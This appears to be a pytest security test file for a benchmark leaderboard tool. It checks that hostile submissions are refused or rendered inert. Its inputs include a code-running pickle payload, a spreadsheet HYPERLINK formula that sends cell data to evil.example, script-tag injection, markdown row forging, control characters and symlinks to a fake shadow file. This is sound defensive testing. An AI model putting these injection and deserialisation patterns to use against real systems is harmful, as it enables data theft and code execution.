"""A leaderboard service that receives folders from strangers.

Each test is one thing a hostile submitter, a stranger's model folder or a hostile state
of the machine tried (issue 22): nothing a stranger wrote runs, is read outside its
folder, reaches a score, a table or an error message unescaped, or costs anyone data;
every refusal is one line (exit status 2) and leaves nothing behind.
"""

from __future__ import annotations

import errno
import json
import os
import shutil
import signal
import subprocess
import time
from pathlib import Path

import pandas as pd
import pytest
import torch
from click.testing import CliRunner, Result

from sssle_bench import paths
from sssle_bench.cli import main
from sssle_bench.dataset import GeneratedDataset
from sssle_bench.estimators.weak_sep.config import make_config
from sssle_bench.estimators.weak_sep.critic import classifier_key
from sssle_bench.estimators.weak_sep.shipped import checkpoint_dir
from sssle_bench.generate.check import verify_dataset
from sssle_bench.toml_files import dumps_toml

from .conftest import REPO, TOY, generate, generate_command, parts_done, tree_digest


def run(*args: object) -> Result:
    return CliRunner().invoke(main, [str(a) for a in args], prog_name="sssle-bench")


def refused(result: Result, needle: str = "") -> str:
    """The command ended with one error line (exit status 2, no traceback; progress lines
    may stand beside it) holding ``needle``; returns that line."""
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output
    errors = [line for line in result.output.splitlines() if line.lower().startswith("error")]
    assert len(errors) == 1 and errors[0].startswith("error: "), result.output
    assert needle in errors[0], errors[0]
    return errors[0]


def make_submission(folder: Path, dataset: Path, meta: str | None = None) -> Path:
    """A valid submission of the toy test split (every class at -30 dB)."""
    folder.mkdir(parents=True, exist_ok=True)
    truth = pd.read_csv(dataset / "ground_truth" / "test.csv")
    pred = truth[["mixture_id", "condition", "class"]].assign(level_db=-30.0)
    pred.to_csv(folder / "predictions.csv", index=False)
    if meta is not None:
        (folder / "meta.toml").write_text(meta, encoding="utf-8")
    return folder


def board(*folders: Path, truth: Path, out: Path) -> Result:
    return run("leaderboard", *folders, "--truth", truth, "--out", out, "--bootstrap", "0")


# -- model folders are code-free ------------------------------------------------------------


class Payload:
    """Unpickled with code allowed, creates ``marker``: the proof that a file ran code."""

    def __init__(self, marker: Path):
        self.marker = str(marker)

    def __reduce__(self):
        return (open, (self.marker, "w"))


QUICK = {
    "preset": "cpu",
    "epochs": 1,
    "classifier_epochs": 1,
    "batch_size": 4,
    "conditions": ["none"],
}


@pytest.fixture(scope="module")
def quick_config(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("config") / "quick.toml"
    path.write_text(dumps_toml(QUICK))
    return path


def test_a_pickle_planted_as_the_shared_classifier_never_runs(
    toy_dataset: Path, quick_config: Path, tmp_path: Path
):
    out, marker = tmp_path / "model", tmp_path / "ran"
    out.mkdir()
    key = classifier_key(make_config(QUICK), GeneratedDataset(toy_dataset), "train")
    torch.save({"classifier": Payload(marker), "losses": []}, out / f"classifier-{key[:20]}.pt")
    line = refused(run("train", "weak-sep", toy_dataset, "--out", out, "--config", quick_config))
    assert "not a pretrained classifier this tool wrote, refused unread" in line
    assert not marker.exists()


def test_a_pickle_planted_as_a_training_checkpoint_never_runs(
    toy_dataset: Path, quick_config: Path, tmp_path: Path
):
    out, marker = tmp_path / "model", tmp_path / "ran"
    result = run("train", "weak-sep", toy_dataset, "--out", out, "--config", quick_config)
    assert result.exit_code == 0, result.output
    ckpt = out / "conditions" / "none" / "checkpoint.pt"
    assert ckpt.is_file()
    torch.save({"separator": Payload(marker)}, ckpt)
    line = refused(run("train", "weak-sep", toy_dataset, "--out", out, "--config", quick_config))
    assert f"{ckpt}: not a training checkpoint this tool wrote, refused unread" in line
    assert not marker.exists()


def test_a_pickle_planted_as_a_model_never_runs(toy_dataset: Path, tmp_path: Path):
    model, marker = tmp_path / "model", tmp_path / "ran"
    shutil.copytree(checkpoint_dir(), model)
    torch.save({"conditions": Payload(marker)}, model / "model.pt")
    line = refused(
        run("predict", "weak-sep", toy_dataset, "--model", model, "--out", tmp_path / "s")
    )
    assert "not a weak-sep model this tool wrote, refused unread" in line
    assert not marker.exists() and not (tmp_path / "s").exists()


@pytest.mark.parametrize("value", ["1e308", "NaN", "Infinity"])
def test_a_tampered_class_prior_never_becomes_a_submission(
    toy_dataset: Path, tmp_path: Path, value: str
):
    model = tmp_path / "model"
    assert run("train", "class-prior", toy_dataset, "--out", model).exit_code == 0
    blob = json.loads((model / "estimator.json").read_text())
    label = next(c for c, v in blob["state"]["pooled"]["levels"].items() if v is not None)
    blob["state"]["pooled"]["levels"][label] = 12345.0
    (model / "estimator.json").write_text(json.dumps(blob).replace("12345.0", value))
    refused(run("predict", "class-prior", toy_dataset, "--model", model, "--out", tmp_path / "s"))
    assert not (tmp_path / "s" / "predictions.csv").exists()


def test_a_model_whose_weights_were_made_nan_never_becomes_a_submission(
    toy_dataset: Path, tmp_path: Path
):
    model = tmp_path / "model"
    shutil.copytree(checkpoint_dir(), model)
    saved = torch.load(model / "model.pt", weights_only=True)
    for nets in saved["conditions"].values():
        for tensor in nets["separator"].values():
            if tensor.is_floating_point():
                tensor.fill_(float("nan"))
    torch.save(saved, model / "model.pt")
    line = refused(
        run("predict", "weak-sep", toy_dataset, "--model", model, "--out", tmp_path / "s")
    )
    assert "predicted level nan dB" in line and "no submission written" in line
    assert not (tmp_path / "s" / "predictions.csv").exists()


# -- scores come from the predictions, never from the submitter ----------------------------


def test_a_forged_score_json_never_reaches_the_leaderboard(toy_dataset: Path, tmp_path: Path):
    """The reported case: a score.json whose hashes match, its MAE made up."""
    sub = make_submission(tmp_path / "sub", toy_dataset)
    scored = run(
        "score", sub / "predictions.csv", "--truth", toy_dataset, "--bootstrap", "0",
        "--out", sub / "score.json",
    )  # fmt: skip
    assert scored.exit_code == 0, scored.output
    honest = json.loads((sub / "score.json").read_text())["overall"]["all"]["mae_present_db"]
    forged = json.loads((sub / "score.json").read_text())
    forged["overall"]["all"]["mae_present_db"]["value"] = 0.01
    (sub / "score.json").write_text(json.dumps(forged))
    result = board(sub, truth=toy_dataset, out=tmp_path / "board")
    assert result.exit_code == 0, result.output
    table = pd.read_csv(tmp_path / "board" / "leaderboard.csv")
    assert table.loc[0, "mae_present_db"] == pytest.approx(honest["value"], abs=1e-4)
    assert honest["value"] > 1.0


def test_the_leaderboard_reuses_only_the_scores_it_computed(toy_dataset: Path, tmp_path: Path):
    sub = make_submission(tmp_path / "sub", toy_dataset)
    out = tmp_path / "board"
    first = board(sub, truth=toy_dataset, out=out)
    assert f"scoring {sub}" in first.output
    csv = (out / "leaderboard.csv").read_bytes()
    again = board(sub, truth=toy_dataset, out=out)
    assert "scoring" not in again.output and (out / "leaderboard.csv").read_bytes() == csv
    other = run("leaderboard", sub, "--truth", toy_dataset, "--out", out, "--bootstrap", "10")
    assert f"scoring {sub}" in other.output  # other settings, another key


# -- nothing is read through a link, nothing quoted whole -----------------------------------


@pytest.mark.parametrize("name", ["predictions.csv", "intervals.csv", "meta.toml"])
def test_a_linked_submission_file_is_refused_unread(toy_dataset: Path, tmp_path: Path, name):
    secret = tmp_path / "shadow"
    secret.write_text("root:SECRET-HASH:19000:0:99999:7:::\n")
    sub = make_submission(tmp_path / "sub", toy_dataset)
    (sub / name).unlink(missing_ok=True)
    (sub / name).symlink_to(secret)
    line = refused(board(sub, truth=toy_dataset, out=tmp_path / "board"), "symbolic link")
    assert "SECRET" not in line and not (tmp_path / "board").exists()


def test_a_huge_field_is_quoted_as_a_short_excerpt(toy_dataset: Path, tmp_path: Path):
    sub = make_submission(tmp_path / "sub", toy_dataset)
    with (sub / "predictions.csv").open("a") as fh:
        fh.write("x" * 10_000_000 + ",none,siren,-30\n")
    result = run("validate", sub / "predictions.csv", "--truth", toy_dataset)
    assert result.exit_code == 2 and len(result.output) < 2000, len(result.output)
    assert "xxxxxxxx'... (9999940 more characters) at line" in result.output


def test_a_huge_header_is_quoted_as_a_short_excerpt(toy_dataset: Path, tmp_path: Path):
    sub = tmp_path / "sub"
    sub.mkdir()
    (sub / "predictions.csv").write_text(";".join(["y" * 1_000_000] * 10) + "\n")
    line = refused(run("validate", sub / "predictions.csv", "--truth", toy_dataset))
    assert "semicolon-separated" in line and len(line) < 500


def test_no_error_line_quotes_a_value_whole(tmp_path: Path):
    """Messages that quote a file's value (here a recipe's class) are cut by the CLI."""
    recipe = tmp_path / "r.toml"
    recipe.write_text(TOY.read_text().replace('"siren"', '"' + "s" * 1_000_000 + '\\u001b"'))
    result = run("recipe", "check", recipe)
    assert result.exit_code == 2 and len(result.output) < 3000, len(result.output)
    assert "more characters)" in result.output and "\x1b" not in result.output


# -- a submitter's text is data in every output ---------------------------------------------


def leaderboard_of(meta: str, toy_dataset: Path, tmp_path: Path) -> Path:
    subs = [
        make_submission(tmp_path / "evil", toy_dataset, meta),
        make_submission(tmp_path / "plain", toy_dataset),
    ]
    result = board(*subs, truth=toy_dataset, out=tmp_path / "board")
    assert result.exit_code == 0, result.output
    return tmp_path / "board"


def md_rows(markdown: str) -> list[list[str]]:
    """The table rows of leaderboard.md, each split on its unescaped pipes."""
    import re

    rows = [line for line in markdown.splitlines() if line.startswith("| ")]
    return [re.split(r"(?<!\\)\|", row)[1:-1] for row in rows[1:]]


def test_pipes_in_a_method_name_cannot_forge_a_row(toy_dataset: Path, tmp_path: Path):
    meta = 'method = "x | 1 | 1 | forged | weak | 0.01 |"\n'
    out = leaderboard_of(meta, toy_dataset, tmp_path)
    rows = md_rows((out / "leaderboard.md").read_text())
    assert len(rows) == 2 and len({len(r) for r in rows}) == 1
    assert any(r"x \| 1 \| 1 \| forged" in cell for row in rows for cell in row)


def test_a_line_break_in_a_method_name_is_refused(toy_dataset: Path, tmp_path: Path):
    meta = 'method = "x |\\n| 1 | 1 | forged |"\n'
    sub = make_submission(tmp_path / "evil", toy_dataset, meta)
    refused(board(sub, truth=toy_dataset, out=tmp_path / "board"), "control character")
    assert not (tmp_path / "board").exists()


def test_html_in_a_method_name_is_inert_in_markdown(toy_dataset: Path, tmp_path: Path):
    out = leaderboard_of('method = "<script>alert(1)</script>"\n', toy_dataset, tmp_path)
    markdown = (out / "leaderboard.md").read_text()
    assert "<script>" not in markdown and r"\<script\>alert(1)\</script\>" in markdown
    assert "<script>alert" not in (out / "index.html").read_text()


def test_formulas_in_a_method_name_are_inert_in_csv(toy_dataset: Path, tmp_path: Path):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    out = leaderboard_of(f"method = {json.dumps(formula)}\n", toy_dataset, tmp_path)
    table = pd.read_csv(out / "leaderboard.csv")
    assert "'" + formula in set(table["method"]) and formula not in set(table["method"])
    pairwise = pd.read_csv(out / "pairwise.csv")
    cells = set(pairwise["method_a"]) | set(pairwise["method_b"])
    assert "'" + formula in cells and formula not in cells
    assert table["mae_present_db"].dtype == float  # figures stay numbers


def test_mathtext_in_a_method_name_is_plain_text_in_the_figures(toy_dataset: Path, tmp_path: Path):
    out = leaderboard_of('method = "$\\\\undefinedmacro{$"\n', toy_dataset, tmp_path)
    assert (out / "plots" / "mae_by_condition.png").stat().st_size > 1000


@pytest.mark.parametrize(
    "field", ['authors = "A\\u001b[31mB"', 'url = "http://x\\ry"', 'short_name = "a\\u0000"']
)
def test_control_characters_in_meta_fields_are_refused(toy_dataset: Path, tmp_path: Path, field):
    sub = make_submission(tmp_path / "sub", toy_dataset, field + "\n")
    line = refused(board(sub, truth=toy_dataset, out=tmp_path / "board"), "control character")
    assert "\x1b" not in line and "\x00" not in line
    assert not (tmp_path / "board").exists()


def test_two_methods_of_one_file_name_are_refused_before_any_write(
    toy_dataset: Path, tmp_path: Path
):
    a = make_submission(tmp_path / "a", toy_dataset, 'method = "a b"\n')
    b = make_submission(tmp_path / "b", toy_dataset, 'method = "a_b"\n')
    refused(board(a, b, truth=toy_dataset, out=tmp_path / "board"), "would both be written")
    assert not (tmp_path / "board").exists()


def test_a_300_character_method_is_refused_before_any_write(toy_dataset: Path, tmp_path: Path):
    sub = make_submission(tmp_path / "sub", toy_dataset, f'method = "{"m" * 300}"\n')
    refused(board(sub, truth=toy_dataset, out=tmp_path / "board"), "300 characters")
    assert not (tmp_path / "board").exists()


# -- writes stay inside, refusals leave nothing ---------------------------------------------


def test_a_link_planted_at_the_temporary_name_is_never_followed(tmp_path: Path, monkeypatch):
    out, victim = tmp_path / "out", tmp_path / "victim"
    out.mkdir()
    victim.write_text("untouched")
    names = iter(["aaaa", "bbbb"])
    monkeypatch.setattr(paths.secrets, "token_hex", lambda n: next(names))
    (out / f".f.txt.{os.getpid()}.aaaa.tmp").symlink_to(victim)
    paths.write_text(out, "f.txt", "data")
    assert victim.read_text() == "untouched" and (out / "f.txt").read_text() == "data"
    assert sorted(p.name for p in out.iterdir()) == [f".f.txt.{os.getpid()}.aaaa.tmp", "f.txt"]


def test_a_write_that_fails_leaves_no_temporary_file(
    toy_dataset: Path, tmp_path: Path, monkeypatch
):
    """The reported case: a disk-full score left a 0-byte temporary file."""
    sub = make_submission(tmp_path / "sub", toy_dataset)

    class Full:
        def __init__(self, fd: int, mode: str):
            os.close(fd)

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            return False

        def write(self, data: bytes) -> int:
            raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(paths.os, "fdopen", Full)
    out = tmp_path / "scores"
    out.mkdir()
    args = ["score", sub / "predictions.csv", "--truth", toy_dataset, "--bootstrap", "0"]
    refused(run(*args, "--out", out / "score.json"), "No space left on device")
    assert list(out.iterdir()) == []


# -- no data lost, no false claims ----------------------------------------------------------


@pytest.fixture()
def small(synthetic_home: Path, tmp_path: Path) -> Path:
    return generate(tmp_path / "ds", synthetic_home, limit=2, save_sources=True)


def test_a_deleted_wav_is_named_and_repaired_in_place(small: Path, synthetic_home: Path):
    intact = tree_digest(small)
    wav = small / "audio" / "test" / "bg-20" / "test_000001.wav"
    wav.unlink()
    rel = wav.relative_to(small).as_posix()
    assert verify_dataset(small) == [f"{rel}: missing"]
    checked = run("regenerate", small, "--data-home", synthetic_home, "--jobs", "1")
    assert checked.exit_code == 2 and "bit for bit" not in checked.output
    assert f"{rel}: missing in {small}; `sssle-bench regenerate --repair`" in checked.output
    assert not wav.exists()
    mended = run("regenerate", small, "--data-home", synthetic_home, "--jobs", "1", "--repair")
    assert mended.exit_code == 0, mended.output
    assert f"repairing 1 file(s): {rel}: missing" in mended.output
    assert "every file on disk has the manifest's sha256 (repaired)" in mended.output
    assert verify_dataset(small) == [] and tree_digest(small) == intact


def test_generate_renders_a_mixture_whose_file_is_missing(small: Path, synthetic_home: Path):
    intact = tree_digest(small)
    (small / "audio" / "valid" / "none" / "valid_000000.wav").unlink()
    result = run("generate", TOY, "--out", small, "--data-home", synthetic_home)
    assert result.exit_code == 2  # a different --save-sources: refused, nothing touched
    args = ["generate", TOY, "--out", small, "--data-home", synthetic_home, "--limit", "2"]
    result = run(*args, "--save-sources", "--jobs", "1")
    assert result.exit_code == 0, result.output
    assert "1 mixtures rendered (5 already done)" in result.output
    assert verify_dataset(small) == [] and tree_digest(small) == intact


def test_a_truncated_source_clip_is_refused(synthetic_home: Path, tmp_path: Path):
    """The reported case: a WAV cut to a third whose header still states its length."""
    home = tmp_path / "home"
    shutil.copytree(synthetic_home, home)
    wav = sorted((home / "UrbanSound8K" / "audio").rglob("*.wav"))[0]
    data = wav.read_bytes()
    wav.write_bytes(data[: 44 + (len(data) - 44) // 3])
    line = refused(run("sources", "--data-home", home), "truncated audio file")
    assert str(wav) in line and "header declares" in line
    skipped = run("sources", "--data-home", home, "--skip-bad")
    assert skipped.exit_code == 0 and f"skipped: {wav}: truncated" in skipped.output


def _children(pid: int) -> list[int]:
    found = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[1]) == pid:
            found.append(int(stat.parent.name))
    return found


def _alive(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state != "Z"


@pytest.mark.skipif(not Path("/proc").is_dir(), reason="reads /proc")
def test_killing_generate_leaves_no_worker_behind(synthetic_home: Path, tmp_path: Path):
    out = tmp_path / "ds"
    cmd = generate_command(out, synthetic_home, "--jobs", "2", "--limit", "40")
    proc = subprocess.Popen(cmd, cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 120
    while parts_done(out) < 2 and time.monotonic() < deadline and proc.poll() is None:
        time.sleep(0.05)
    workers = _children(proc.pid)
    assert proc.poll() is None and len(workers) >= 2, "no pool workers to watch"
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    deadline = time.monotonic() + 15
    while any(_alive(w) for w in workers) and time.monotonic() < deadline:
        time.sleep(0.1)
    assert not [w for w in workers if _alive(w)]


# -- every input bounded, every error one line ----------------------------------------------


@pytest.mark.parametrize(
    "option, value, allowed",
    [
        ("--floor-db", "nan", "from -300 to 0"),
        ("--presence-threshold-db", "inf", "to +20"),
        ("--bootstrap", "-1", "from 0 (off) to 100000"),
        ("--bootstrap", "100000000", "from 0 (off) to 100000"),
        ("--seed", "-3", ">= 0"),
    ],
)
def test_meaningless_score_options_are_refused_with_their_range(
    toy_dataset: Path, tmp_path: Path, option: str, value: str, allowed: str
):
    sub = make_submission(tmp_path / "sub", toy_dataset)
    args = ["score", sub / "predictions.csv", "--truth", toy_dataset, option, value]
    refused(run(*args, "--out", tmp_path / "s.json"), allowed)
    assert not (tmp_path / "s.json").exists()


def test_an_overflowing_interval_index_is_invalid_even_with_allow_missing(
    toy_dataset: Path, tmp_path: Path
):
    sub = make_submission(tmp_path / "sub", toy_dataset)
    (sub / "intervals.csv").write_text(
        "mixture_id,condition,class,interval,laeq_db\ntest_000000,none,siren,1e23,-30\n"
    )
    result = run("validate", sub / "predictions.csv", "--truth", toy_dataset, "--allow-missing")
    assert result.exit_code == 2 and "interval past the mixture's last interval" in result.output


@pytest.mark.parametrize(
    "args, needle",
    [
        (["score"], "Missing argument 'PREDICTIONS'. (see 'sssle-bench score --help')"),
        (["scoer"], "No such command 'scoer'. Did you mean 'score'?"),
        (["score", "x", "--bootstrap", "z"], "'z' is not a valid integer"),
        (["generate", "r.toml"], "Missing option '--out'"),
    ],
)
def test_usage_errors_are_one_line(args: list[str], needle: str):
    refused(run(*args), needle)


def test_a_download_without_network_says_so_first_and_leaves_nothing(tmp_path: Path, monkeypatch):
    from soundata import download_utils
    from soundata.datasets import urbansound8k as sd_us8k

    from sssle_bench.sources import sonyc_backgrounds

    dead = "http://127.0.0.1:9/archive.tar.gz"  # the discard port: nothing listens
    remote = download_utils.RemoteFileMetadata("UrbanSound8K.tar.gz", dead, "0" * 32)
    monkeypatch.setitem(sd_us8k.REMOTES, "all", remote)
    home = tmp_path / "home"
    line = refused(run("download", "urbansound8k", "--data-home", home))
    assert line.startswith("error: UrbanSound8K download: cannot reach 127.0.0.1:9")
    assert "nothing was written" in line and not home.exists()
    monkeypatch.setattr(sonyc_backgrounds, "remote_metadata", lambda: remote)
    line = refused(run("download", "sonyc-backgrounds", "--data-home", home))
    assert line.startswith("error: SONYC-Backgrounds download: cannot reach 127.0.0.1:9")
    assert not home.exists()
    missing = refused(run("sources", "--data-home", home))
    assert "run `sssle-bench download urbansound8k`" in missing


def test_every_temporary_name_is_new(tmp_path: Path):
    """Two writes of one file never share a temporary name (so a planted name is useless)."""
    seen = set()
    for _ in range(50):
        fd, tmp = paths._create_temp(tmp_path / "f")
        os.close(fd)
        seen.add(tmp)
    assert len(seen) == 50 and {Path(t).parent for t in seen} == {tmp_path}


def test_this_module_runs_no_pickle_it_plants(tmp_path: Path):
    """The planted payload is real: unpickled with code allowed, it does create its marker."""
    marker = tmp_path / "ran"
    torch.save({"x": Payload(marker)}, tmp_path / "evil.pt")
    torch.load(tmp_path / "evil.pt", weights_only=False)
    assert marker.exists()
